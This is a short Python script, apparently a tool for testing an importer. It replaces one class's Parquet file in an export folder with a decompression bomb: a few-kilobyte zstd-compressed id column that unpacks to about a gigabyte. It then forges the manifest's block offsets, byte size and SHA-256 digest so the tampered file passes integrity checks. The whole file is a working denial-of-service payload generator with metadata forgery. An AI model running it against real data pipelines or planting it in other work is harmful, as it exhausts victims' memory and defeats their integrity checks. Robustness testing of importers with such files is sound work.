"""parquet_bomb.py FOLDER CLASS: replaces the file of a class by one whose column of ids, a few kilobytes,
unpacks to a gigabyte, and makes the manifest's sizes, blocks and digest those of the new file."""

import hashlib
import json
import pathlib
import sys

import pyarrow as pa
import pyarrow.parquet as pq

MEBIBYTE = 1 << 20


def main(folder, class_name):
    folder = pathlib.Path(folder)
    manifest_file = folder / "export_metadata.json"
    manifest = json.loads(manifest_file.read_text())
    [listed] = [file for file in manifest["files"] if file["class"] == class_name]
    path = folder / listed["key"]
    rows = listed["rows"]
    ids = pa.array(["0" * (1024 * MEBIBYTE // rows)] * rows, pa.large_string())
    options = {"compression": "zstd", "use_dictionary": False, "write_statistics": False, "store_schema": False}
    pq.write_table(pa.table({"id": ids}), path, data_page_size=2**30 * 3 // 2, **options)
    content = path.read_bytes()
    chunk = pq.read_metadata(path).row_group(0).column(0)
    listed["blocks"] = [{"offset": chunk.data_page_offset, "length": chunk.total_compressed_size, "rows": rows}]
    listed["sizeBytes"] = len(content)
    listed["digest"] = {"algorithm": "sha256", "value": hashlib.sha256(content).hexdigest()}
    manifest_file.write_text(json.dumps(manifest))
    print(len(content), chunk.total_uncompressed_size)


main(*sys.argv[1:])
